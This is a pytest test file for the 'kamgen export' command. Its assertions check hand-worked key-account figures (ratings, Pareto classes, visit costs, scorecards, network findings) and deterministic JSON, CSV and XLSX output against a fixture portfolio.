"""``kamgen export`` against a hand-worked portfolio: every figure of method.md.

The portfolio in ``tests/fixtures/handworked`` was chosen so that each figure can be worked
out on paper; each YAML file starts with its hand calculation, and each assertion below
repeats the arithmetic. The numbers are worked by hand, never copied from the code.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import openpyxl.writer.excel as openpyxl_writer
import pytest
from openpyxl import load_workbook

from kamgen.cli import main
from kamgen.export import (
    ACCOUNT_COLUMNS,
    FORMATS,
    FORMULA_STARTS,
    account_rows,
    export,
    portfolio_document,
    spreadsheet_cell,
)
from kamgen.load import load_portfolio
from kamgen.model import Portfolio
from kamgen.workbook import workbook

ROOT = Path(__file__).resolve().parents[1]
FIXTURE = ROOT / "tests" / "fixtures" / "handworked"
AS_OF = dt.date(2026, 11, 23)
approx = pytest.approx


def exported(portfolio: Portfolio, day: dt.date, fmt: str) -> bytes:
    """The export in ``fmt``: JSON and CSV from kamgen.export, the workbook from
    kamgen.workbook, as ``kamgen export --format`` makes them."""
    return workbook(portfolio, day) if fmt == "xlsx" else export(portfolio, day, fmt)


@pytest.fixture(scope="module")
def portfolio() -> Portfolio:
    return load_portfolio(FIXTURE)


@pytest.fixture(scope="module")
def document(portfolio: Portfolio) -> dict[str, Any]:
    return portfolio_document(portfolio, AS_OF)


def _account(document: dict[str, Any], account_id: str) -> dict[str, Any]:
    return next(a for a in document["accounts"] if a["id"] == account_id)


def _by(items: list[dict[str, Any]], key: str) -> dict[str, dict[str, Any]]:
    return {item[key]: item for item in items}


# --- the document as a whole -------------------------------------------------------------


def test_document_header_and_programme(document: dict[str, Any]) -> None:
    assert document["kamgen_export"] == 1
    assert document["as_of"] == "2026-11-23"
    programme = document["programme"]
    assert programme["company"] == "Handworked Test GmbH"
    assert programme["language"] == "en"
    assert programme["currency"] == "EUR"
    assert programme["fiscal_year"] == 2026
    assert programme["rating"]["scale"] == [0, 10]
    assert programme["pareto"] == {"A": 50, "B": 80}
    assert programme["policy"]["contact_max_age_days"] == 60
    assert programme["policy"]["visit_cost_share_max"] == approx(0.2)
    assert [a["id"] for a in document["accounts"]] == ["alpha", "beta", "gamma"]


def test_programme_checklist_completion(document: dict[str, Any]) -> None:
    # kam-launch has 5 items: kl-01, kl-02 done; kl-03 n/a; kl-04 open; kl-05 unset = open
    # completion = done / (items − n/a) = 2 / (5 − 1) = 0.5
    assert document["programme"]["checklists"] == {
        "kam-launch": {"done": 2, "open": 2, "not_applicable": 1, "completion": approx(0.5)},
    }


# --- 1a. customer rating -----------------------------------------------------------------


def test_rating_score_class_and_points(document: dict[str, Any]) -> None:
    # scale 0..10, weights revenue 2, potential 1, fit 1 (Σ 4; shares 0.5, 0.25, 0.25)
    # points_i = 100 · share_i · (r_i − 0) / (10 − 0); classes A ≥ 60, B ≥ 40
    alpha = _account(document, "alpha")["rating"]
    # 100 · (2·8/10 + 6/10 + 10/10) / 4 = 100 · 3.2 / 4 = 80 → A
    assert alpha["score"] == approx(80.0)
    assert alpha["class"] == "A"
    criteria = _by(alpha["criteria"], "id")
    assert list(criteria) == ["revenue", "potential", "fit"]
    assert criteria["revenue"]["share"] == approx(0.5)
    assert criteria["potential"]["share"] == approx(0.25)
    assert criteria["fit"]["share"] == approx(0.25)
    assert criteria["revenue"]["weight"] == approx(2)
    assert criteria["revenue"]["rating"] == 8
    assert criteria["revenue"]["points"] == approx(40.0)      # 100 · 0.5 · 8/10
    assert criteria["potential"]["points"] == approx(15.0)    # 100 · 0.25 · 6/10
    assert criteria["fit"]["points"] == approx(25.0)          # 100 · 0.25 · 10/10

    beta = _account(document, "beta")["rating"]
    # 100 · (2·6/10 + 4/10 + 8/10) / 4 = 100 · 2.4 / 4 = 60: on the A threshold → A
    assert beta["score"] == approx(60.0)
    assert beta["class"] == "A"
    points = {c["id"]: c["points"] for c in beta["criteria"]}
    assert points == {"revenue": approx(30.0),      # 100 · 0.5 · 6/10
                      "potential": approx(10.0),    # 100 · 0.25 · 4/10
                      "fit": approx(20.0)}          # 100 · 0.25 · 8/10

    # gamma is a candidate without a rating
    assert _account(document, "gamma")["rating"] is None


# --- 1b. Pareto / ABC of revenue and margin ------------------------------------------------


def test_revenue_abc(document: dict[str, Any]) -> None:
    # latest actuals: alpha 500 000 (2026; 2027 is after the fiscal year), beta 300 000,
    # gamma 200 000 (2025; its 2026 is a forecast); total 1 000 000; limits A 50 %, B 80 %
    revenue = document["selection"]["revenue"]
    assert revenue["total"] == approx(1_000_000)
    rows = revenue["rows"]
    assert [r["account"] for r in rows] == ["alpha", "beta", "gamma"]
    assert [r["value"] for r in rows] == approx([500_000, 300_000, 200_000])
    assert [r["share"] for r in rows] == approx([0.5, 0.3, 0.2])
    assert [r["cumulative_before"] for r in rows] == approx([0.0, 0.5, 0.8])
    assert [r["cumulative"] for r in rows] == approx([0.5, 0.8, 1.0])
    # before 0.0 < 0.5 → A; before 0.5 is not < 0.5 but < 0.8 → B; before 0.8 → C
    assert [r["class"] for r in rows] == ["A", "B", "C"]
    # top 20 % of 3 accounts = ceil(0.6) = 1 account: alpha's 0.5
    assert revenue["top_count"] == 1
    assert revenue["top_share"] == approx(0.5)


def test_margin_abc(document: dict[str, Any]) -> None:
    # margins: beta 120 000, gamma 60 000, alpha 20 000; total 200 000
    margin = document["selection"]["margin"]
    assert margin["total"] == approx(200_000)
    rows = margin["rows"]
    assert [r["account"] for r in rows] == ["beta", "gamma", "alpha"]
    assert [r["share"] for r in rows] == approx([0.6, 0.3, 0.1])
    assert [r["cumulative_before"] for r in rows] == approx([0.0, 0.6, 0.9])
    assert [r["cumulative"] for r in rows] == approx([0.6, 0.9, 1.0])
    # before 0.0 → A; 0.6 < 0.8 → B; 0.9 → C
    assert [r["class"] for r in rows] == ["A", "B", "C"]
    assert margin["top_count"] == 1
    assert margin["top_share"] == approx(0.6)     # beta's 120 000 / 200 000


def test_selection_classes_and_disagreements(document: dict[str, Any]) -> None:
    selection = {a["id"]: a["selection"] for a in document["accounts"]}
    # alpha: revenue A, margin C (two steps apart), rating A (= revenue)
    assert selection["alpha"] == {"revenue_class": "A", "margin_class": "C",
                                  "rating_class": "A", "disagreements": ["revenue_margin"]}
    # beta: revenue B, margin A (one step), rating A ≠ revenue B
    assert selection["beta"] == {"revenue_class": "B", "margin_class": "A",
                                 "rating_class": "A", "disagreements": ["rating_revenue"]}
    # gamma: revenue C, margin B (one step), no rating
    assert selection["gamma"] == {"revenue_class": "C", "margin_class": "B",
                                  "rating_class": None, "disagreements": []}


def test_business_latest_actual(document: dict[str, Any]) -> None:
    alpha = _account(document, "alpha")["business"]
    assert alpha["latest_year"] == 2026       # 2027 lies after fiscal year 2026
    assert alpha["revenue"] == approx(500_000)
    assert alpha["margin"] == approx(20_000)
    assert alpha["margin_rate"] == approx(0.04)    # 20 000 / 500 000
    beta = _account(document, "beta")["business"]
    assert (beta["latest_year"], beta["margin_rate"]) == (2026, approx(0.4))  # 120k / 300k
    gamma = _account(document, "gamma")["business"]
    assert gamma["latest_year"] == 2025       # 2026 is marked as a forecast
    assert gamma["revenue"] == approx(200_000)
    assert gamma["margin_rate"] == approx(0.3)     # 60 000 / 200 000


# --- 1c. visit demand per territory ------------------------------------------------------


def test_visit_demand_per_territory(document: dict[str, Any]) -> None:
    territories = _by(document["territories"], "id")
    assert list(territories) == ["north", "south", "west"]

    north = territories["north"]
    # customers 2×20 + 5×10 + 10×5 = 140; prospects 7×4 + 20×1 = 48; plans alpha 20 + beta 32
    # demand 140 + 48 + 52 = 240; capacity 100×2 + 80×2.5 = 400
    assert [p["visits"] for p in north["parts"]] == [40, 50, 50, 28, 20]
    assert north["plans"] == [{"account": "alpha", "visits": 20},
                              {"account": "beta", "visits": 32}]
    assert north["managers"] == [{"id": "a.adler", "capacity": approx(200)},
                                 {"id": "b.brandt", "capacity": approx(200)}]
    assert north["demand"] == approx(240)
    assert north["capacity"] == approx(400)
    assert north["utilisation"] == approx(0.6)     # 240 / 400
    assert north["gap"] == approx(160)             # 400 − 240
    assert north["gap_fte"] == approx(0.8)         # 160 / (400 / 2)

    south = territories["south"]
    # customers 2×20 + 4×10 + 8×5 = 120; prospects 5×4 = 20; plan gamma (candidate) 10
    # demand 150; capacity 50×2 = 100 → over 100 %
    assert south["demand"] == approx(150)
    assert south["capacity"] == approx(100)
    assert south["utilisation"] == approx(1.5)     # 150 / 100
    assert south["gap"] == approx(-50)             # 100 − 150
    assert south["gap_fte"] == approx(-0.5)        # −50 / (100 / 1)
    assert south["plans"] == [{"account": "gamma", "visits": 10}]

    west = territories["west"]
    # customers 4×5 = 20; prospects 5×1 = 5; no manager: no utilisation, no gap in managers
    assert west["demand"] == approx(25)
    assert west["capacity"] == approx(0)
    assert west["utilisation"] is None
    assert west["gap"] == approx(-25)
    assert west["gap_fte"] is None
    assert west["managers"] == []


# --- 1d. visit cost ----------------------------------------------------------------------


def test_managers_capacity_and_cost_per_visit(document: dict[str, Any]) -> None:
    managers = _by(document["managers"], "id")
    # capacity = visit days × visits per day; cost per visit = annual cost / capacity
    assert managers["a.adler"]["capacity"] == approx(200)          # 100 × 2
    assert managers["a.adler"]["cost_per_visit"] == approx(750)    # 150 000 / 200
    assert managers["b.brandt"]["capacity"] == approx(200)         # 80 × 2.5
    assert managers["b.brandt"]["cost_per_visit"] == approx(600)   # 120 000 / 200
    assert managers["c.conrad"]["capacity"] == approx(100)         # 50 × 2
    assert managers["c.conrad"]["cost_per_visit"] == approx(1000)  # 100 000 / 100
    assert managers["d.dorn"]["capacity"] == approx(0)             # no visit days
    assert managers["d.dorn"]["cost_per_visit"] is None
    assert managers["a.adler"]["accounts"] == ["alpha"]
    assert managers["d.dorn"]["accounts"] == []


def test_visit_cost_per_account(document: dict[str, Any]) -> None:
    alpha = _account(document, "alpha")["visits"]
    # 20 × (750 + 50) = 16 000; 500 000 / 20 = 25 000; 16 000 / 20 000 = 0.8 > 0.2
    assert alpha["per_year"] == 20
    assert alpha["cost_per_visit"] == approx(750)
    assert alpha["extra_travel_cost"] == approx(50)
    assert alpha["cost"] == approx(16_000)
    assert alpha["revenue_per_visit"] == approx(25_000)
    assert alpha["margin_share"] == approx(0.8)
    assert alpha["over_limit"] is True

    beta = _account(document, "beta")["visits"]
    # 32 × (600 + 150) = 24 000; 300 000 / 32 = 9 375; 24 000 / 120 000 = 0.2: on the
    # limit, which is not above it
    assert beta["cost"] == approx(24_000)
    assert beta["revenue_per_visit"] == approx(9_375)
    assert beta["margin_share"] == approx(0.2)
    assert beta["over_limit"] is False

    gamma = _account(document, "gamma")["visits"]
    # 10 × 1 000 = 10 000; 200 000 / 10 = 20 000; 10 000 / 60 000 = 1/6 ≤ 0.2
    assert gamma["cost"] == approx(10_000)
    assert gamma["revenue_per_visit"] == approx(20_000)
    assert gamma["margin_share"] == approx(1 / 6)
    assert gamma["over_limit"] is False


# --- 4. share of wallet ------------------------------------------------------------------


def test_share_of_wallet(document: dict[str, Any]) -> None:
    shares = {a["id"]: a["share_of_wallet"] for a in document["accounts"]}
    assert shares["alpha"] == {"revenue": approx(500_000), "wallet": approx(1_000_000),
                               "share": approx(0.5)}       # 500 000 / 1 000 000
    assert shares["beta"]["share"] == approx(0.25)         # 300 000 / 1 200 000
    assert shares["gamma"]["share"] == approx(0.5)         # 200 000 (2025) / 400 000


# --- 2. Balanced Scorecard ---------------------------------------------------------------


def _objectives(account: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {o["objective"]: o for p in account["scorecard"]["perspectives"]
            for o in p["objectives"]}


def test_scorecard_achievement_and_status(document: dict[str, Any]) -> None:
    # limits: green ≥ 0.8, amber ≥ 0.5
    alpha = _objectives(_account(document, "alpha"))
    # baseline, up: (50 − 40) / (60 − 40) = 0.5 → amber (on the limit)
    assert alpha["Grow share of wallet"]["achievement"] == approx(0.5)
    assert alpha["Grow share of wallet"]["status"] == "amber"
    # no baseline, up: 20 000 / 25 000 = 0.8 → green (on the limit)
    assert alpha["Raise contribution margin"]["achievement"] == approx(0.8)
    assert alpha["Raise contribution margin"]["status"] == "green"
    # baseline, down: (20 − 5) / (20 − 10) = 1.5 → green (not capped here)
    assert alpha["Fewer complaints"]["achievement"] == approx(1.5)
    assert alpha["Fewer complaints"]["status"] == "green"
    # no baseline, down: 9 / 20 = 0.45 → red
    assert alpha["Faster delivery"]["achievement"] == approx(0.45)
    assert alpha["Faster delivery"]["status"] == "red"
    # no actual → no data
    assert alpha["Train the account team"]["achievement"] is None
    assert alpha["Train the account team"]["status"] == "no_data"

    beta = _objectives(_account(document, "beta"))
    # baseline, up: (80 − 100) / (200 − 100) = −0.2 → red
    assert beta["Grow revenue"]["achievement"] == approx(-0.2)
    assert beta["Grow revenue"]["status"] == "red"
    # (40 − 20) / (40 − 20) = 1.0 → green
    assert beta["Win the customer's trust"]["achievement"] == approx(1.0)
    assert beta["Win the customer's trust"]["status"] == "green"


def test_scorecard_perspective_scores(document: dict[str, Any]) -> None:
    def scores(account_id: str) -> dict[str, Any]:
        card = _account(document, account_id)["scorecard"]
        return {p["perspective"]: p["score"] for p in card["perspectives"]}

    # alpha: financial (0.5 + 0.8) / 2 = 0.65; customer min(1.5, 1) = 1.0; processes 0.45;
    # learning has only an objective without data → none
    assert scores("alpha") == {"financial": approx(0.65), "customer": approx(1.0),
                               "processes": approx(0.45), "learning": None}
    # scorecard = (0.65 + 1.0 + 0.45) / 3 = 0.7
    assert _account(document, "alpha")["scorecard"]["score"] == approx(0.7)

    # beta: financial max(−0.2, 0) = 0.0; customer 1.0; no processes or learning objectives
    assert scores("beta") == {"financial": approx(0.0), "customer": approx(1.0),
                              "processes": None, "learning": None}
    # scorecard = (0.0 + 1.0) / 2 = 0.5
    assert _account(document, "beta")["scorecard"]["score"] == approx(0.5)

    # gamma has no objectives at all
    assert scores("gamma") == dict.fromkeys(("financial", "customer", "processes", "learning"))
    assert _account(document, "gamma")["scorecard"]["score"] is None


# --- 3. strengths-weaknesses profile, relative quality, competence fields ----------------


def test_weighted_performance(document: dict[str, Any]) -> None:
    positioning = _account(document, "alpha")["positioning"]
    # importances 4, 4, 1, 1, 2 (Σ 12)
    # P_us    = (4·5 + 4·2 + 1·5 + 1·3 + 2·3) / 12 = 42 / 12 = 3.5
    # P_rivo  = (4·3 + 4·3 + 1·3 + 1·3) / 10 = 30 / 10 = 3.0 (not rated on sustainability)
    # P_zenit = (4·4 + 4·4) / 8 = 4.0 (rated on delivery and price only)
    assert positioning["performance"] == {"us": approx(3.5), "rivo": approx(3.0),
                                          "zenit": approx(4.0)}
    # beta has a competitor but no profile; gamma has neither
    assert _account(document, "beta")["positioning"]["performance"] == {}
    assert _account(document, "beta")["positioning"]["relative_quality"] == []
    assert _account(document, "gamma")["positioning"]["performance"] == {}


def test_relative_quality(document: dict[str, Any]) -> None:
    rq = _by(_account(document, "alpha")["positioning"]["relative_quality"], "competitor")
    assert list(rq) == ["rivo", "zenit"]

    rivo = rq["rivo"]
    # compared over the 4 criteria that rate rivo (Σ imp 10):
    # us (4·5 + 4·2 + 1·5 + 1·3) / 10 = 3.6; rivo 3.0; RQ = 3.6 / 3.0 = 1.2
    # (method.md's P_us / P_c with P_us over all 5 criteria would be 3.5 / 3.0 ≈ 1.167;
    # method.md assumes every competitor is rated on every criterion)
    assert rivo["criteria"] == 4
    assert rivo["performance_us"] == approx(3.6)
    assert rivo["performance_them"] == approx(3.0)
    assert rivo["index"] == approx(1.2)
    # better: delivery (4) + support (1) = 5; worse: price (4); range is level
    # RQS = 100 · (5 − 4) / 10 = 10
    assert rivo["score"] == approx(10.0)
    assert rivo["better"] == ["Delivery reliability", "Technical support"]
    assert rivo["worse"] == ["Price"]

    zenit = rq["zenit"]
    # over delivery and price (Σ imp 8): us (20 + 8) / 8 = 3.5; zenit (16 + 16) / 8 = 4.0
    # RQ = 3.5 / 4.0 = 0.875; RQS = 100 · (4 − 4) / 8 = 0
    assert zenit["criteria"] == 2
    assert zenit["performance_us"] == approx(3.5)
    assert zenit["performance_them"] == approx(4.0)
    assert zenit["index"] == approx(0.875)
    assert zenit["score"] == approx(0.0)
    assert zenit["better"] == ["Delivery reliability"]
    assert zenit["worse"] == ["Price"]


def test_competence_fields(document: dict[str, Any]) -> None:
    fields = _by(_account(document, "alpha")["positioning"]["competence_fields"], "criterion")
    # sustainability rates no competitor: not placed
    assert list(fields) == ["Delivery reliability", "Price", "Technical support",
                            "Product range"]
    # lead = us − best competitor; important = importance ≥ 4
    assert fields["Delivery reliability"] == {   # 5 − max(3, 4) = +1, important
        "criterion": "Delivery reliability", "importance": 4, "us": 5, "best_competitor": 4,
        "lead": 1, "quadrant": "core_competence"}
    assert (fields["Price"]["best_competitor"], fields["Price"]["lead"],
            fields["Price"]["quadrant"]) == (4, -2, "act_now")          # 2 − max(3, 4)
    assert (fields["Technical support"]["lead"],
            fields["Technical support"]["quadrant"]) == (2, "over_service")   # 5 − 3
    assert (fields["Product range"]["lead"],
            fields["Product range"]["quadrant"]) == (0, "watch")      # 3 − 3: level, not ahead


# --- 6. value-add calculation ------------------------------------------------------------


def test_value_add(document: dict[str, Any]) -> None:
    concepts = _by(_account(document, "alpha")["value_add"], "title")
    assert list(concepts) == ["Vendor managed inventory", "Operator training",
                              "Premium packaging"]

    vmi = concepts["Vendor managed inventory"]
    # benefits 60 000 + 20 000 = 80 000; net 80 000 − 40 000 = 40 000
    assert vmi["benefits"] == approx(80_000)
    assert vmi["net_yearly_value"] == approx(40_000)
    assert vmi["payback_months"] == approx(9.0)     # 12 · 30 000 / 40 000
    # (3 · 40 000 − 30 000) / (3 · 40 000 + 30 000) = 90 000 / 150 000
    assert vmi["roi"] == approx(0.6)
    assert vmi["value_to_price"] == approx(2.0)     # 80 000 / 40 000

    training = concepts["Operator training"]
    # no yearly cost, H = 2: net 10 000 − 0 = 10 000
    assert training["horizon_years"] == 2
    assert training["net_yearly_value"] == approx(10_000)
    assert training["payback_months"] == approx(6.0)    # 12 · 5 000 / 10 000
    assert training["roi"] == approx(3.0)               # (2 · 10 000 − 5 000) / (0 + 5 000)
    assert training["value_to_price"] is None           # 10 000 / 0: no price

    packaging = concepts["Premium packaging"]
    # H = 5: net 15 000 − 20 000 = −5 000 → no payback
    assert packaging["net_yearly_value"] == approx(-5_000)
    assert packaging["payback_months"] is None
    assert packaging["roi"] == approx(-0.25)            # (5 · −5 000 − 0) / (5 · 20 000 + 0)
    assert packaging["value_to_price"] == approx(0.75)  # 15 000 / 20 000

    assert _account(document, "beta")["value_add"] == []


# --- 7. relationship network -------------------------------------------------------------


def test_network_coverage_and_support(document: dict[str, Any]) -> None:
    alpha = _account(document, "alpha")["network"]
    assert alpha["contacts"] == 6
    # key: deciders c-ceo, d-cfo, p-buyer; influence ≥ 4: p-buyer, e-eng
    assert alpha["key_contacts"] == ["c-ceo", "d-cfo", "p-buyer", "e-eng"]
    # relationship ≥ 3: d-cfo 3, p-buyer 4, e-eng 3 (c-ceo has 2) → 3 / 4
    assert alpha["covered"] == ["d-cfo", "p-buyer", "e-eng"]
    assert alpha["coverage"] == approx(0.75)
    # (5·1 + 3·1 + 4·2 + 4·(−2) + 2·0 + 2·(−1)) / (5 + 3 + 4 + 4 + 2 + 2) = 6 / 20
    assert alpha["support"] == approx(0.3)

    beta = _account(document, "beta")["network"]
    assert beta["key_contacts"] == ["m-md"]
    assert beta["coverage"] == approx(1.0)          # m-md, relationship 5
    assert beta["support"] == approx(1.625)         # (5·2 + 3·1) / (5 + 3) = 13 / 8

    gamma = _account(document, "gamma")["network"]
    assert (gamma["contacts"], gamma["coverage"], gamma["support"]) == (0, None, None)


def test_network_findings(document: dict[str, Any]) -> None:
    findings = _account(document, "alpha")["network"]["findings"]
    assert findings == [
        # c-ceo is a decider with relationship 2
        {"kind": "blind_spot", "contacts": ["c-ceo"], "detail": ""},
        # the strong relationships (≥ 4), p-buyer 4 and g-gate 5, are both held by a.adler
        {"kind": "single_threaded", "contacts": ["p-buyer", "g-gate"], "detail": "a.adler"},
        # 2026-08-25 → 2026-11-23: 6 + 30 + 31 + 23 = 90 days > 60
        {"kind": "stale", "contacts": ["e-eng"], "detail": "90"},
        # 2026-01-01 → 2026-11-23: 304 (Jan–Oct) + 22 = 326 days > 60
        # (p-buyer's 2026-09-24 is 6 + 31 + 23 = 60 days: not over the limit)
        {"kind": "stale", "contacts": ["s-sceptic"], "detail": "326"},
        # e-eng is an opponent with influence 4
        {"kind": "influential_opponent", "contacts": ["e-eng"], "detail": ""},
    ]
    # beta: strong relationships held by b.brandt and d.dorn; met 3 and 53 days ago
    assert _account(document, "beta")["network"]["findings"] == []


# --- action plan and checklists ----------------------------------------------------------


def test_open_and_overdue_actions(document: dict[str, Any]) -> None:
    # alpha: open "Pilot VMI" (due 2026-11-22, overdue), in progress "Run workshop" (due
    # today: not overdue), open "Call the CFO" (no due date); done and dropped are not open
    alpha = _account(document, "alpha")["actions"]
    assert {k: v for k, v in alpha.items() if k != "items"} == {
        "total": 5, "open": 3, "overdue": 1, "overdue_titles": ["Pilot VMI"]}
    assert alpha["items"] == [
        {"title": "Pilot VMI", "owner": "a.adler", "due": "2026-11-22", "status": "open",
         "overdue": True},
        {"title": "Run workshop", "owner": "b.brandt", "due": "2026-11-23",
         "status": "in_progress", "overdue": False},
        # done and dropped are never overdue, whatever their due date
        {"title": "Send offer", "owner": "a.adler", "due": "2026-10-01", "status": "done",
         "overdue": False},
        {"title": "Old idea", "owner": None, "due": "2026-01-01", "status": "dropped",
         "overdue": False},
        {"title": "Call the CFO", "owner": "a.adler", "due": None, "status": "open",
         "overdue": False},
    ]
    # beta: in progress, due 2026-06-30
    assert _account(document, "beta")["actions"] == {
        "total": 1, "open": 1, "overdue": 1, "overdue_titles": ["Quarterly review"],
        "items": [{"title": "Quarterly review", "owner": "b.brandt", "due": "2026-06-30",
                   "status": "in_progress", "overdue": True}]}
    assert _account(document, "gamma")["actions"] == {
        "total": 0, "open": 0, "overdue": 0, "overdue_titles": [], "items": []}


def test_account_checklist_completion(document: dict[str, Any]) -> None:
    checklists = {a["id"]: a["checklists"]["negotiation"] for a in document["accounts"]}
    # 4 items; completion = done / (4 − n/a)
    assert checklists["alpha"] == {"done": 3, "open": 0, "not_applicable": 1,
                                   "completion": approx(1.0)}     # 3 / 3
    assert checklists["beta"] == {"done": 1, "open": 3, "not_applicable": 0,
                                  "completion": approx(0.25)}     # 1 / 4
    assert checklists["gamma"] == {"done": 0, "open": 0, "not_applicable": 4,
                                   "completion": None}            # 0 / 0


# --- portfolio matrix --------------------------------------------------------------------


def test_portfolio_matrix(document: dict[str, Any]) -> None:
    # position = share of wallet; splits: attractiveness 50, position 0.5 (a value on a
    # split counts as high)
    assert document["programme"]["matrix"]["position_split"] == approx(0.5)
    assert _account(document, "alpha")["matrix"] == {
        "attractiveness": approx(80.0), "position": approx(0.5),
        "revenue": approx(500_000), "quadrant": "maintain"}          # 80 ≥ 50, 0.5 ≥ 0.5
    assert _account(document, "beta")["matrix"] == {
        "attractiveness": approx(60.0), "position": approx(0.25),
        "revenue": approx(300_000), "quadrant": "develop"}           # 60 ≥ 50, 0.25 < 0.5
    assert _account(document, "gamma")["matrix"] is None              # no rating


# --- the three formats -------------------------------------------------------------------


def test_json_equals_the_document(portfolio: Portfolio, document: dict[str, Any]) -> None:
    data = export(portfolio, AS_OF, "json")
    assert b"NaN" not in data
    assert b"Infinity" not in data
    assert json.loads(data) == json.loads(json.dumps(document))


# (rating_score, rating_class, share_of_wallet, visit_cost, scorecard_score) by hand
KEY_FIGURES = {
    "alpha": (80.0, "A", 0.5, 16_000.0, 0.7),
    "beta": (60.0, "A", 0.25, 24_000.0, 0.5),
    "gamma": (None, None, 0.5, 10_000.0, None),
}


def _number(text: str) -> float | None:
    return None if text == "" else float(text)


def test_csv_has_one_row_per_account(portfolio: Portfolio) -> None:
    data = export(portfolio, AS_OF, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert rows[0] == [name for name, _ in ACCOUNT_COLUMNS]
    assert len(rows) == 1 + 3
    table = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert list(table) == ["alpha", "beta", "gamma"]
    for account_id, (score, klass, share, cost, card) in KEY_FIGURES.items():
        row = table[account_id]
        assert _number(row["rating_score"]) == (None if score is None else approx(score))
        assert row["rating_class"] == (klass or "")
        assert _number(row["share_of_wallet"]) == approx(share)
        assert _number(row["visit_cost"]) == approx(cost)
        assert _number(row["scorecard_score"]) == (None if card is None else approx(card))
    assert table["alpha"]["disagreements"] == "revenue_margin"
    assert table["alpha"]["network_findings"] == (
        "blind_spot; single_threaded; stale; stale; influential_opponent")
    assert table["alpha"]["value_add_concepts"] == "3"
    assert table["alpha"]["overdue_actions"] == "1"
    assert table["alpha"]["matrix_quadrant"] == "maintain"
    assert table["gamma"]["matrix_quadrant"] == ""


def test_xlsx_accounts_sheet(portfolio: Portfolio, document: dict[str, Any]) -> None:
    # The hand-worked programme is English: English labels for headers and values.
    data = workbook(portfolio, AS_OF)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == [
        "Accounts", "Territories", "Managers", "Pareto revenue", "Pareto margin", "Scorecard",
        "Value-add", "Relative quality", "Network findings", "Actions", "Completeness"]
    rows = list(book["Accounts"].iter_rows(values_only=True))
    assert rows[0][:8] == ("Account id", "Account", "Status", "Owner", "Territory",
                           "Industry", "Customer rating (score)", "Rating class")
    assert len(rows[0]) == len(ACCOUNT_COLUMNS)
    assert len(rows) == 1 + 3
    table = {row[0]: dict(zip([name for name, _ in ACCOUNT_COLUMNS], row, strict=True))
             for row in rows[1:]}
    for account_id, (score, klass, share, cost, card) in KEY_FIGURES.items():
        row = table[account_id]
        assert row["rating_score"] == (None if score is None else approx(score))
        assert row["rating_class"] == klass
        assert row["share_of_wallet"] == approx(share)
        assert row["visit_cost"] == approx(cost)
        assert row["scorecard_score"] == (None if card is None else approx(card))
    # Every number is the document's, unrounded; ids and enum values become names and
    # labels; the review date is a date.
    named = {"status": {"key_account": "Key account", "candidate": "Candidate"},
             "owner": {"a.adler": "Anna Adler", "b.brandt": "Ben Brandt",
                       "c.conrad": "Clara Conrad"},
             "territory": {"north": "North", "south": "South"},
             "matrix_quadrant": {"maintain": "Maintain", "develop": "Develop",
                                 "selective": "Selective", "reduce": "Reduce"},
             "disagreements": {"revenue_margin": "revenue and margin class two steps apart",
                               "rating_revenue": "rating class differs from revenue class"}}
    for expected in account_rows(document):
        got = table[expected["id"]]
        for name, value in expected.items():
            if name in named and value:
                assert got[name] == "; ".join(named[name][v] for v in value.split("; ")), name
            elif name == "network_findings" and value:
                assert got[name] == "; ".join(
                    {"blind_spot": "Blind spot", "single_threaded": "Single-threaded",
                     "stale": "Not met within the limit",
                     "influential_opponent": "Influential opponent"}[kind]
                    for kind in value.split("; "))
            elif name == "reviewed" and value:
                assert got[name] == dt.datetime.fromisoformat(value), name
            elif isinstance(value, float):
                assert got[name] == approx(value), name
            else:
                assert got[name] == (None if value in ("", None) else value), name


def test_xlsx_properties_are_pinned_to_the_as_of_date(
    portfolio: Portfolio, wall_clock: WallClock
) -> None:
    # The run happens on 2027-03-01 09:30 UTC; the file must still say 2026-11-23.
    # Fails while openpyxl's save_workbook overwrites ``modified`` with datetime.now().
    book = load_workbook(io.BytesIO(workbook(portfolio, AS_OF)))
    assert book.properties.creator == "kamgen"
    assert book.properties.created == dt.datetime(2026, 11, 23)
    assert book.properties.modified == dt.datetime(2026, 11, 23)


class WallClock:
    """The wall-clock time an export runs at, held still and moved at will.

    The zip entries of an XLSX file take ``time.time()``; openpyxl's ``save_workbook``
    stamps the core property ``modified`` with ``datetime.datetime.now()``.
    """

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.now = dt.datetime(2027, 3, 1, 9, 30, 0, tzinfo=dt.timezone.utc).timestamp()
        clock = self

        class _Datetime(dt.datetime):
            @classmethod
            def now(cls, tz: dt.tzinfo | None = None) -> _Datetime:
                moment = dt.datetime.fromtimestamp(clock.now, tz)
                return cls(*moment.timetuple()[:6], tzinfo=moment.tzinfo)

        monkeypatch.setattr(time, "time", lambda: clock.now)
        monkeypatch.setattr(openpyxl_writer, "datetime",
                            SimpleNamespace(datetime=_Datetime, timezone=dt.timezone))

    def advance(self, seconds: float) -> None:
        self.now += seconds


@pytest.fixture
def wall_clock(monkeypatch: pytest.MonkeyPatch) -> WallClock:
    return WallClock(monkeypatch)


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_twice_gives_identical_bytes(
    portfolio: Portfolio, fmt: str, wall_clock: WallClock
) -> None:
    # the clock is held still, so only the export itself could make the bytes differ
    assert exported(portfolio, AS_OF, fmt) == exported(portfolio, AS_OF, fmt)


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_does_not_depend_on_the_time_of_the_run(
    portfolio: Portfolio, fmt: str, wall_clock: WallClock
) -> None:
    # A CI run an hour later must give the same bytes: the export is pinned to the as-of
    # date. Fails for xlsx while the zip entries and docProps/core.xml's dcterms:modified
    # carry the wall-clock time of the run.
    first = exported(portfolio, AS_OF, fmt)
    wall_clock.advance(3600)
    assert exported(portfolio, AS_OF, fmt) == first


def test_xlsx_with_a_column_that_is_empty_in_every_row(tmp_path: Path) -> None:
    # No account names an industry: the Accounts sheet's industry column holds no value.
    # Fails while the column width is max(len(header), *()) → TypeError.
    plans = tmp_path / "plans"
    shutil.copytree(FIXTURE, plans)
    for path in (plans / "accounts").glob("*.yaml"):
        text = path.read_text("utf-8")
        path.write_text("\n".join(line for line in text.splitlines()
                                  if not line.startswith("industry:")) + "\n", "utf-8")
    data = workbook(load_portfolio(plans), AS_OF)
